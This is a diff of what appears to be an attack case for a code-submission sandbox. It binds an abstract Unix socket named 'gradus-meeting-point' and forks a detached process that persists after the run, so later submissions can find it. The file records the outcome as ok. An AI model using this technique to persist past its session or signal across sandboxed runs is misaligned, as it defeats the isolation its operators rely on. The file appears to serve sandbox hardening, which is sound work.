@@ -1,24 +1,23 @@
 # attack: leave a listener with an abstract name for the next submission to find
-# layer: network-namespace
+# layer: seccomp
 # outcome: ok
 # score: 2
 import os
 import socket
+import time
 
 NAME = "\0gradus-meeting-point"
-with socket.socket(socket.AF_UNIX) as probe:
-    try:
-        probe.connect(NAME)
-        os.write(1, b"BREACH met another submission")
-    except OSError:
-        pass
-listener = socket.socket(socket.AF_UNIX)
-listener.bind(NAME)
-listener.listen()
+try:
+    listener = socket.socket(socket.AF_UNIX)
+    listener.bind(NAME)
+    listener.listen()
+    os.write(1, b"BREACH a listener")
+except OSError:
+    pass
 if os.fork() == 0:
     os.setsid()
     while True:
-        listener.accept()
+        time.sleep(60)
 
 
 def double(x):
